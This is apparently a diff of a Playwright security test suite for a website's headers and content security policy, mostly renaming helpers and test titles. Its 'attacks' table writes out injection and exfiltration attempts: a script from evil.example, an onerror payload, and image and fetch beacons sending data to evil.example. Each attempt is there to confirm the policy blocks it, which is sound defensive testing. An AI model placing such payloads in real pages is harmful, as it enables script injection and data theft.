@@ -5,25 +5,25 @@ import { tabs } from '../src/navigation';
 import { hosts } from '../src/services/third-party-hosts';
 import { ContactForm } from './support/contact-form';
 import { expect, openSite, test } from './support/fixtures';
-import { walk } from './support/full-visit';
-import { appScripts, hold } from './support/network';
-import { stage } from './support/third-party-stubs';
+import { fullVisit } from './support/full-visit';
+import { appScripts, delayRequests } from './support/network';
+import { stubThirdParties } from './support/third-party-stubs';
 
-// What the site lets in, what it lets out, and what it leaves behind.
+// Security headers, the content security policy, and what the site stores.
 
 const env = { VITE_EMAILJS_PUBLIC_KEY: 'local-public-key' };
 const builtPage = () => readFile('dist/index.html', 'utf8');
 
-test('every answer carries the security headers, and is kept no longer than it is good for', async ({
-  request,
-}) => {
+test('every response has the security headers and its cache-control', async ({ request }) => {
   const html = await builtPage();
-  const asset = /assets\/[^"']+\.js/.exec(html)?.[0];
+  const [script] = /assets\/[^"']+\.js/.exec(html) ?? [];
+  const [styleSheet] = /[\w-]+\.css/.exec(html) ?? [];
+  expect(styleSheet, 'the style sheet of the no-script page').toBeDefined();
   const [assets, rest] = cacheHeaders;
   for (const [path, cache] of [
     ['/', rest.value],
-    ['/no-script.css', rest.value],
-    [`/${asset}`, assets.value],
+    [`/${styleSheet}`, rest.value],
+    [`/${script}`, assets.value],
   ] as const) {
     const headers = (await request.get(path)).headers();
     for (const [name, value] of Object.entries(buildSecurityHeaders(env, html)))
@@ -32,14 +32,14 @@ test('every answer carries the security headers, and is kept no longer than it i
   }
 });
 
-test('the same headers are built for the hosts that read them from a file', async () => {
+test('dist/_headers has the same headers and Strict-Transport-Security', async () => {
   const file = await readFile('dist/_headers', 'utf8');
   for (const [name, value] of Object.entries(buildSecurityHeaders(env, await builtPage())))
     expect(file).toContain(`\n  ${name}: ${value}\n`);
   expect(file).toContain('\n  Strict-Transport-Security: max-age=');
 });
 
-test('the page holds two scripts and one style, which the policy knows by their hashes, and no handler', async () => {
+test('page has two inline scripts and one style, allowed by hash, and no inline handlers', async () => {
   const html = await builtPage();
   const { 'Content-Security-Policy': policy } = buildSecurityHeaders(env, html);
   expect(html.match(/<style/gi)).toHaveLength(1);
@@ -50,15 +50,15 @@ test('the page holds two scripts and one style, which the policy knows by their 
   expect(html).not.toMatch(/<[^>]+\s(style|on\w+)=|javascript:|\snonce=/i);
 });
 
-test('a visit to everything breaks no rule of ours, and leaves no cookie and nothing stored', async ({
+test('full visit causes no browser errors and stores nothing', async ({
   page,
   context,
-  allow,
+  allowedErrors,
 }) => {
-  allow.push(`request elsewhere: ${hosts.video}/`);
-  await stage(context);
+  allowedErrors.push(`cross-origin request: ${hosts.video}/`);
+  await stubThirdParties(context);
   await openSite(page);
-  await walk(page);
+  await fullVisit(page);
   expect(await context.cookies()).toEqual([]);
   const stored = await page.evaluate(async () => ({
     local: localStorage.length,
@@ -70,28 +70,28 @@ test('a visit to everything breaks no rule of ours, and leaves no cookie and not
   expect(stored).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
 });
 
-/** Where a browser knows trusted types, they stop a script before the rule for scripts does. */
-const script = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;
+/** Where Trusted Types are supported, they block a script before `script-src` does. */
+const scriptDirective = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;
 
-/** What someone who got a foot in the door would try, and the rule that stops it. */
-const attacks: Record<string, [rule: RegExp, attempt: (page: Page) => Promise<unknown>]> = {
-  'an inline script': [script, (page) => page.evaluate(addScript, { text: '1' })],
-  'a script from elsewhere': [
-    script,
+/** Attempts of an injected script, and the directive that blocks each. */
+const attacks: Record<string, [directive: RegExp, attempt: (page: Page) => Promise<unknown>]> = {
+  'inline script': [scriptDirective, (page) => page.evaluate(addScript, { text: '1' })],
+  'cross-origin script': [
+    scriptDirective,
     (page) => page.evaluate(addScript, { src: 'https://evil.example/x.js' }),
   ],
-  'markup with an event handler': [
-    script,
+  'inline event handler': [
+    scriptDirective,
     (page) =>
       page.evaluate(() => {
         document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">');
       }),
   ],
-  'text run as a script': [
-    script,
-    (page) => page.evaluate(() => setTimeout('window.wasRun = true')),
+  'string evaluated as script': [
+    scriptDirective,
+    (page) => page.evaluate(() => setTimeout('window.wasEvaluated = true')),
   ],
-  'a style element': [
+  'style element': [
     /^style-src-elem$/,
     (page) =>
       page.evaluate(() => {
@@ -100,19 +100,19 @@ const attacks: Record<string, [rule: RegExp, attempt: (page: Page) => Promise<un
         document.head.append(style);
       }),
   ],
-  'a picture that carries something out': [
+  'exfiltration by an image': [
     /^img-src$/,
     (page) =>
       page.evaluate(() => {
         new Image().src = 'https://evil.example/?secret';
       }),
   ],
-  'a call that carries something out': [
+  'exfiltration by fetch': [
     /^connect-src$/,
     (page) => page.evaluate(() => void fetch('https://evil.example/').catch(() => {})),
   ],
-  'a frame from elsewhere': [/^frame-src$/, (page) => page.evaluate(addFrame)],
-  'a form that posts elsewhere': [
+  'cross-origin iframe': [/^frame-src$/, (page) => page.evaluate(addFrame)],
+  'cross-origin form action': [
     /^form-action$/,
     (page) =>
       page.evaluate(() => {
@@ -122,7 +122,7 @@ const attacks: Record<string, [rule: RegExp, attempt: (page: Page) => Promise<un
         form.submit();
       }),
   ],
-  'another base for the links': [
+  'base element': [
     /^base-uri$/,
     (page) =>
       page.evaluate(() => {
@@ -133,11 +133,19 @@ const attacks: Record<string, [rule: RegExp, attempt: (page: Page) => Promise<un
   ],
 };
 
-test('every way in and out that is not ours is refused', async ({ site, allow }) => {
-  allow.push('security policy', 'console error', 'uncaught', 'elsewhere: https://evil.example/');
-  for (const [name, [rule, attempt]] of Object.entries(attacks)) {
+test('CSP blocks every attempt to inject code or send data elsewhere', async ({
+  site,
+  allowedErrors,
+}) => {
+  allowedErrors.push(
+    'CSP violation',
+    'console error',
+    'uncaught',
+    'cross-origin request: https://evil.example/',
+  );
+  for (const [name, [directive, attempt]] of Object.entries(attacks)) {
     await test.step(name, async () => {
-      const broken = site.evaluate(
+      const violation = site.evaluate(
         () =>
           new Promise<string>((resolve) =>
             document.addEventListener(
@@ -148,20 +156,24 @@ test('every way in and out that is not ours is refused', async ({ site, allow })
           ),
       );
       await attempt(site).catch(() => {});
-      expect(await broken, name).toMatch(rule);
+      expect(await violation, name).toMatch(directive);
     });
   }
-  expect(await site.evaluate(() => 'wasRun' in window)).toBe(false);
+  expect(await site.evaluate(() => 'wasEvaluated' in window)).toBe(false);
   expect(await site.evaluate(() => document.querySelectorAll('h1').length)).toBe(tabs.length);
 });
 
-test('nobody can put the site in a frame of their own', async ({
+test('another site cannot embed the page in an iframe', async ({
   page,
   context,
-  allow,
+  allowedErrors,
   baseURL,
 }) => {
-  allow.push('frame-ancestors', 'request elsewhere: https://evil.example/', 'X-Frame-Options');
+  allowedErrors.push(
+    'frame-ancestors',
+    'cross-origin request: https://evil.example/',
+    'X-Frame-Options',
+  );
   await context.route('https://evil.example/', (route) =>
     route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
   );
@@ -169,16 +181,16 @@ test('nobody can put the site in a frame of their own', async ({
   await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
 });
 
-test('words before the page is ready never end up in its address', async ({ page }) => {
-  const start = await hold(page, appScripts);
+test('submitting before hydration does not put the values in the URL', async ({ page }) => {
+  const release = await delayRequests(page, appScripts);
   await page.goto('/', { waitUntil: 'commit' });
   const form = new ContactForm(page);
   await page.locator('form[aria-labelledby]').waitFor({ state: 'attached' });
   await page.evaluate(() => document.getElementById('contact')?.removeAttribute('hidden'));
-  await form.fields.message.fill('private words');
+  await form.fields.message.fill('private text');
   await form.fields.from_name.press('Enter');
   expect(new URL(page.url()).search).toBe('');
-  start();
+  release();
 });
 
 function addScript(properties: { text?: string; src?: string }) {
